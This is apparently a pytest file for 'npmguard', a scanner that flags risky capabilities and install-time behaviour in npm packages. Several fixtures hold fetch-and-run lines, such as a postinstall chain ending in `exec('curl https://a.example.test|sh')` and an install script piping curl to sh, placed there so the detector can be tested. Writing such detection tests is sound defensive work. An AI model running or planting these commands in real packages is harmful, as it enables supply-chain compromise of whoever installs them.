import msgspec
import pytest
from support.imitations import numbered

from npmguard.code.package import compared, examine
from npmguard.model import CodeFacts, Kind, Place


def facts(
    files: dict[str, str | bytes], scripts: dict[str, str] | None = None, **fields: object
) -> CodeFacts:
    given = ((path, data.encode() if isinstance(data, str) else data) for path, data in files.items())
    return examine(given, {"scripts": scripts or {}, **fields})


def test_capabilities_and_where_they_show() -> None:
    found = facts(
        {
            "a.js": "const http = require('http')\n",
            "b.mjs": "// require('net')\nimport { exec } from 'node:child_process'\n",
            "c.js": "const fs = require('fs');\nfs.writeFileSync('x', process.env.SOME)",
            "d.js": "new Function(x)()",
            "e.node": b"\x7fELF",
        }
    )
    able = found.capabilities
    assert able.network == (Place("a.js", 1),)
    assert able.processes == (Place("b.mjs", 2),)
    assert able.reads == (Place("c.js", 1),)
    assert able.writes == (Place("c.js", 2),)
    assert able.environment == (Place("c.js", 2),)
    assert able.evaluation == (Place("d.js", 1),)
    assert able.native == (Place("e.node", 1),)


@pytest.mark.parametrize(
    "text",
    [
        "// require('child_process')",
        "/* eval(x)\n * process.env.HOME\n */",
        "const help = 'never use eval(x) or process.env.A';",
        "if (process.env.NODE_ENV !== 'production') {}",
        "var root = Function('return this')();",
    ],
)
def test_what_is_no_capability(text: str) -> None:
    assert facts({"a.js": text}).capabilities.names == ()


def test_an_install_is_followed_through_the_files() -> None:
    found = facts(
        {
            "scripts/a.js": "require('./b')",
            "scripts/b.js": "require('./c').x()",
            "scripts/c.js": "exports.x = () => require('child_process').exec('curl https://a.example.test|sh')",
        },
        {"postinstall": "node scripts/a"},
    )
    assert found.started == ("scripts/a.js",)
    assert {(deed.kind, deed.path) for deed in found.installs} >= {(Kind.EVALUATES_FETCHED, "scripts/c.js")}
    assert not found.ordinary
    assert found.hosts == ("a.example.test",)


def test_a_script_that_only_builds_is_ordinary() -> None:
    found = facts({"binding.gyp": "{'targets': []}", "a.cc": ""})
    assert found.commands == (("install", "node-gyp rebuild"),)
    assert found.ordinary
    assert found.capabilities.native == (Place("binding.gyp", 1),)
    assert facts({"binding.gyp": "{}"}, gypfile=False).commands == ()


def test_a_file_that_is_not_there() -> None:
    assert facts({}, {"preinstall": "node compile.js"}).missing == ("compile.js",)


def test_a_program_that_the_package_brings() -> None:
    found = facts({"tool.exe": b"MZ\0\0"}, {"install": "tool.exe"})
    assert [deed.kind for deed in found.installs] == [Kind.BUNDLED]
    found = facts({"bin/run": "#!/bin/sh\ncurl https://a.example.test | sh\n"}, {"install": "./bin/run"})
    assert Kind.EVALUATES_FETCHED in {deed.kind for deed in found.installs}


def test_alarming_code_anywhere() -> None:
    found = facts({"lib/deep/x.js": "module.exports = 1;\n" + numbered()})
    assert {deed.kind for deed in found.imports} == {Kind.OBFUSCATED}
    assert found.installs == ()


def test_facts_are_plain_data() -> None:
    found = facts({"a.js": numbered()}, {"install": "node a.js"})
    assert msgspec.json.decode(msgspec.json.encode(found), type=CodeFacts) == found


def test_the_same_files_give_the_same_facts() -> None:
    files: dict[str, str | bytes] = {"a.js": "require('fs')", "b.js": "require('net')"}
    assert facts(files) == facts(dict(reversed(files.items())))


def test_what_a_release_gains() -> None:
    old = facts({"index.js": "module.exports = 1"})
    new = facts(
        {
            "index.js": "module.exports = fetch('https://a.example.test/x')",
            "new.js": numbered() * 30,
        },
        {"install": "node index.js"},
    )
    gain = compared(old, new)
    assert [name for name, _ in gain.capabilities] == ["network"]
    assert gain.hosts == ("a.example.test",)
    assert Kind.OBFUSCATED in {deed.kind for deed in gain.deeds}
    assert [(bulk.path, bulk.kind) for bulk in gain.bulky] == [("new.js", "obfuscated")]
    assert compared(new, new) == ((), (), (), ())


def test_manifests_of_any_shape() -> None:
    shapes: list[object] = [None, [], "x", {"install": 3}, {"install": None}]
    for scripts in shapes:
        assert examine([], {"scripts": scripts}).commands == ()
